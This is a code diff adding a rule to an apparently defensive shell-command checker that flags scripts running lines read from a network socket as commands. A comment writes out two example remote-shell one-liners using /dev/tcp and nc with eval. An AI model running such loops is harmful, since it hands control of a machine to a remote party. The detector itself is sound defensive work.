@@ -6,7 +6,7 @@ import type { Arg, Invocation } from '../shell/invocation.js';
 import { staticValue } from '../shell/words.js';
 import { resolveLexical } from '../paths.js';
 import { NETWORK } from '../shell/commands.js';
-import { socketSink, uploadSink } from './sinks.js';
+import { socketRedirect, socketSink, uploadSink } from './sinks.js';
 import type { Rule, RuleContext } from './types.js';
 
 /** Commands that print every variable with its value. */
@@ -142,7 +142,55 @@ function sendsEnvFile(inv: Invocation, ctx: RuleContext): string | false {
   return false;
 }
 
+/** Where a `read` gets network lines from: its stdin, a pipeline stage before it, or a redirect (its own or its loop's). */
+function networkFeed(read: Invocation, ctx: RuleContext, loopRedirs: readonly Invocation[]): string | null {
+  if (read.stdin?.kind === 'network') return read.stdin.desc;
+  const own = socketRedirect(read, ctx);
+  if (own) return own;
+  for (const up of read.upstream) {
+    if (NETWORK.has(up.name) && up.name !== 'openssl') return up.name;
+    const h = socketRedirect(up, ctx);
+    if (h) return h;
+  }
+  for (const r of loopRedirs) {
+    const h = socketRedirect(r, ctx);
+    if (h) return h;
+  }
+  return null;
+}
+
+/** The names a `read` assigns. */
+function readNames(inv: Invocation): string[] {
+  const names = inv.args.map((a) => a.value ?? '').filter((v) => /^[A-Za-z_]\w*$/.test(v));
+  return names.length > 0 ? names : ['REPLY'];
+}
+
+/**
+ * `exec 3<>/dev/tcp/h/p; while read c <&3; do $c; done`, `nc h p | while read c; do eval "$c"; done`: lines read
+ * from the network run as commands (a command word, `eval`, `sh -c`). The loop's own redirect shows up as the
+ * `:` the walker records for a compound command.
+ */
+function runsNetworkLines(inv: Invocation, ctx: RuleContext): string | false {
+  if (!inv.dynamic && !inv.evalDynamic) return false;
+  const script = ctx.script ?? [];
+  const loopRedirs = script.filter((i) => i.name === ':' && i.redirs.length > 0 && i.args.length === 0);
+  for (const r of script) {
+    if (r.name !== 'read') continue;
+    const src = networkFeed(r, ctx, loopRedirs);
+    if (!src) continue;
+    const uses = readNames(r).some((n) => new RegExp(`\\$\\{?${n}\\b`).test(inv.display));
+    if (uses) return `lines read from ${src} run by ${inv.name || inv.display}`;
+  }
+  return false;
+}
+
 export const round7Rules: Rule[] = [
+  {
+    id: 'exec.network-read-loop',
+    pack: 'exec',
+    reason: 'runs lines read from the network as commands (a remote shell); ask the user',
+    match: runsNetworkLines,
+  },
   {
     id: 'exfil.env-file-upload',
     pack: 'exfil',
